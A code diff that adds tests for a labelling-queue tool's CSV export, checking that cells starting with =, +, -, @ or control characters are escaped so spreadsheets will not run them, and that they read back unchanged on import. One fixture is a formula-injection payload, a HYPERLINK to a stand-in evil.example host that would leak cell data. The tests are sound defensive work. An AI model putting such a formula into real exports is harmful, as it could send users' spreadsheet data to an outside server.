@@ -162,6 +162,37 @@ def test_csv_goes_out_and_comes_back(queued, tmp_path):
     assert queue_state(queued)[0] == ("a", "labelled", '{"contains": ["refund"]}', "fail")
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_come_back_as_they_were(store, tmp_path):
+    import csv
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ingest_file(store, write_jsonl(tmp_path / "t.jsonl", [trace("-NfK3xQ", attack, output="@here done"),
+                                                           trace("plain", "'=quoted already", output="-5 degrees")]),
+                kind="production")  # a Firebase push id starts with "-"
+    enqueue(store, [QueuePick("-NfK3xQ", 1, "+ reason", 2.0), QueuePick("plain", 1, "\tindented", 1.0)], run_id="r1")
+    export_queue(store, tmp_path / "q.csv", format="csv")
+    with (tmp_path / "q.csv").open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(row["trace_id"], row["input"], row["output"], row["reason"]) for row in rows] == [
+        ("'-NfK3xQ", "'" + attack, "'@here done", "'+ reason"), ("plain", "''=quoted already", "'-5 degrees", "'\tindented")]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    rows[0].update(expected="=2 is not a formula here", notes="'=a note")  # as a spreadsheet saves, and marks, text
+    with (tmp_path / "filled.csv").open("w", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert import_labels(store, tmp_path / "filled.csv").applied == 1
+    assert store.one("SELECT trace_id, expected::VARCHAR, notes FROM labelling_queue WHERE state = 'labelled'") == (
+        "-NfK3xQ", '"=2 is not a formula here"', "=a note")
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'tis", "plain", ""])
+def test_an_inert_csv_cell_reads_back_as_the_value_it_was(value):
+    from harness_evals.label.queue import as_inert_cell, from_inert_cell
+
+    assert from_inert_cell(as_inert_cell(value)) == value
+
+
 def test_label_studio_tasks_go_out_and_its_export_comes_back(queued, tmp_path):
     export_queue(queued, tmp_path / "tasks.json", format="labelstudio")
     tasks = json.loads((tmp_path / "tasks.json").read_text())
